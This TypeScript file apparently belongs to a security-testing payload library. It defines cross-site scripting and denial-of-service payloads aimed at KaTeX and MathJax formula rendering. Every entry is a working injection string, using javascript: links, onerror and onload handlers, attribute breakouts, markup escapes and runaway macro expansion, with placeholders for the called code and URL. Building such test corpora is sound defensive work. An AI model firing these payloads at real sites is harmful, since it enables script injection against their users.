import { category } from './payload';
import { KATEX, MATHJAX, own } from './sources';

const r = String.raw;

/** Formulas in TeX: commands that link, load or style, and ways out of the element that a formula becomes. */
export const TEX = category('tex', [
  [
    KATEX,
    {
      href: r`\href{javascript:{{CALL}}}{x}`,
      'href-mixed-case': r`\href{JaVaScRiPt:{{CALL}}}{x}`,
      'href-tab': `\\href{java\tscript:{{CALL}}}{x}`,
      'href-data': r`\href{data:text/html,<script>{{CALL}}</script>}{x}`,
      url: r`\url{javascript:{{CALL}}}`,
      includegraphics: r`\includegraphics{{{URL}}}`,
      'includegraphics-breaking': r`\includegraphics[alt=x]{x:' onerror='{{CALL}}}`,
      'includegraphics-sized': r`\includegraphics[height=1em,totalheight=2em,width=3em,alt="><svg onload={{CALL}}>]{{{URL}}}`,
      'html-style': r`\htmlStyle{background:url({{URL}})}{x}`,
      'html-class': r`\htmlClass{x" onclick="{{CALL}}}{x}`,
      'html-id': r`\htmlId{x" onclick="{{CALL}}}{x}`,
      'html-data': r`\htmlData{a=b,x onerror={{CALL}} y=z}{x}`,
      'html-data-name': r`\htmlData{><img/onerror={{CALL}}/src=x:=1}{x}`,
      'macro-loop': r`\def\a{\a\a}\a`,
      'macro-growth': r`\def\e#1{#1#1#1#1#1}\e{\e{\e{\e{\e{\e{x}}}}}}`,
      'colour-breaking': r`\color{red;background:url({{URL}})}{x}`,
      'textcolor-breaking': r`\textcolor{"><img src=x: onerror={{CALL}}>}{x}`,
    },
  ],
  [
    MATHJAX,
    {
      unicode: r`\unicode[Arial;background:url({{URL}})]{x41"><script>{{CALL}}</script>}`,
      style: r`\style{background:url({{URL}})}{x}`,
      class: r`\class{x" onclick="{{CALL}}}{x}`,
      cssid: r`\cssId{location" onclick="{{CALL}}}{x}`,
      require: r`\require{html}\href{javascript:{{CALL}}}{x}`,
      mmltoken: r`\mmlToken{mi}[href="javascript:{{CALL}}" onclick="{{CALL}}"]{x}`,
      'tip-and-toggle': r`\mathtip{x}{\text{<img src=x: onerror={{CALL}}>}}\texttip{x}{<svg onload={{CALL}}>}`,
      'script-type': '<script type="math/tex">\\href{javascript:{{CALL}}}{x}</script>',
      'script-mml':
        '<script type="math/mml"><math><mi href="javascript:{{CALL}}">x</mi><mtext><img src=x: onerror={{CALL}}></mtext></math></script>',
      'script-asciimath': '<script type="math/asciimath">text(<img src=x: onerror={{CALL}}>)</script>',
      'assistive-mml':
        '<mjx-container><mjx-assistive-mml><math><mtext><img src=x: onerror={{CALL}}></mtext></math></mjx-assistive-mml></mjx-container>',
    },
  ],
  [
    own(KATEX),
    {
      'text-markup': r`\text{</mtext></math><img src=x: onerror={{CALL}}>}`,
      'operator-name': r`\operatorname{"><svg onload={{CALL}}>}`,
      'tag-markup': r`x \tag{<script>{{CALL}}</script>}`,
      'verb-markup': r`\verb|<img src=x: onerror={{CALL}}>|`,
      'dollar-break': r`$x$<img src=x: onerror={{CALL}}>$y$`,
      'display-break': r`$$x</math><svg onload={{CALL}}>$$`,
      'paren-break': r`\(x"><img src=x: onerror={{CALL}}>\)`,
      'bracket-break': r`\[x'><svg onload={{CALL}}>\]`,
      'error-message': r`\undefined{<img src=x: onerror={{CALL}}>`,
      'begin-unknown': r`\begin{"><img src=x: onerror={{CALL}}>}x\end{y}`,
      'alttext-breaking': `<math alttext='"><img src=x: onerror={{CALL}}>'><mi>x</mi></math>`,
      'annotation-tex': r`<math><semantics><mi>x</mi><annotation encoding="application/x-tex">\href{javascript:{{CALL}}}{x}"><img src=x: onerror={{CALL}}></annotation></semantics></math>`,
      'katex-markup':
        '<span class="katex"><span class="katex-mathml"><math href="javascript:{{CALL}}"><mtext><img src=x: onerror={{CALL}}></mtext></math></span></span>',
      'image-formula': r`<img class="mwe-math-fallback-image" alt="\href{javascript:{{CALL}}}{x}" src=x: onerror={{CALL}}>`,
    },
  ],
]);
